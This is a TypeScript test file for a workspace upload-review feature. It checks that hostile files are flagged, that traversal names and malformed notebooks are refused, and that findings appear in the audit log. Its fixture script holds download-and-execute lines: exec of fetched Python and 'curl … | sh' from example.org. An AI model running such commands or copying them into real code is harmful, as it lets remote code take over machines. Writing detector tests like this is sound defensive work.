// Review before trust through the real app origin: what the upload dialog is shown, that a review stores nothing,
// that a stored file's page gets the same findings, and that the upload's audit event records them.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import {
  multipart,
  snapshot,
  startTestStudio,
  SMALL_NOTEBOOK,
  type Caller,
  type TestStudio,
} from "./server-helpers.ts";

let t: TestStudio;
let owner: Caller;
let viewer: Caller;
let ws: string;

const HOSTILE_SCRIPT =
  "import os\nimport requests\nexec(requests.get('https://example.org/payload.py').text)\nos.system('curl https://example.org/x.sh | sh')\n";

before(async () => {
  t = await startTestStudio({ "max-upload-bytes": "200000" });
  owner = await t.addUser("rita");
  viewer = await t.addUser("vic");
  ws = (await t.call(owner, { method: "POST", url: "/api/workspaces", payload: { name: "Review" } })).json().id;
  await t.call(owner, {
    method: "POST",
    url: `/api/workspaces/${ws}/members`,
    payload: { username: "vic", role: "viewer" },
  });
});
after(() => t.close());

const review = (files: { path: string; content: string | Buffer }[], caller = owner) =>
  t.call(caller, { method: "POST", url: `/api/workspaces/${ws}/review`, ...multipart(undefined, files) });

test("a review says what each file would do and whether the upload would refuse it, and stores nothing", async () => {
  const before = await snapshot(t);
  const r = await review([
    { path: "fetch.py", content: HOSTILE_SCRIPT },
    { path: "clean.ipynb", content: SMALL_NOTEBOOK },
    { path: "broken.ipynb", content: '{"nbformat": 4, "nbformat": 4}' },
    { path: "../escape.py", content: "print(1)\n" },
  ]);
  assert.equal(r.statusCode, 200, r.body);
  const [fetch, clean, broken, escape] = r.json().files;
  assert.equal(fetch.path, "fetch.py");
  assert.ok(fetch.summary.counts.high >= 1, JSON.stringify(fetch.summary));
  assert.ok(
    fetch.findings.some((f: { rule: string }) => f.rule === "download-exec"),
    JSON.stringify(fetch.findings.map((f: { rule: string }) => f.rule)),
  );
  assert.equal(fetch.refused, undefined);
  assert.equal(clean.summary.total, 0);
  assert.equal(broken.refused.error, "duplicate_key");
  assert.equal(broken.summary.readable, false);
  assert.equal(escape.refused.error, "name_traversal");
  assert.equal(await snapshot(t), before, "a review writes nothing");
});

test("only editors may ask for a review; a viewer is refused", async () => {
  const r = await review([{ path: "a.py", content: "print(1)\n" }], viewer);
  assert.equal(r.statusCode, 403);
  assert.equal(r.json().error, "role_insufficient");
});

test("a stored file's review and the upload's audit event carry the findings the dialog showed", async () => {
  const shown = (await review([{ path: "tools/fetch.py", content: HOSTILE_SCRIPT }])).json().files[0];
  const up = await t.call(owner, {
    method: "POST",
    url: `/api/workspaces/${ws}/files`,
    ...multipart("trusted-source-v1", [{ path: "tools/fetch.py", content: HOSTILE_SCRIPT }]),
  });
  assert.equal(up.statusCode, 201, up.body);
  const stored = await t.call(viewer, { method: "GET", url: `/api/workspaces/${ws}/review/tools/fetch.py` });
  assert.equal(stored.statusCode, 200, stored.body);
  assert.deepEqual(stored.json().findings, shown.findings);
  assert.equal(stored.json().version, 1);
  const audit = await t.studio.db
    .selectFrom("audit_events")
    .selectAll()
    .where("event", "=", "upload")
    .orderBy("id", "desc")
    .executeTakeFirstOrThrow();
  const recorded = JSON.parse(audit.details).files[0].review;
  assert.deepEqual(recorded.counts, shown.summary.counts);
  assert.deepEqual(
    recorded.findings.map((f: { rule: string; place: unknown }) => [f.rule, f.place]),
    shown.findings.map((f: { rule: string; place: unknown }) => [f.rule, f.place]),
  );
});
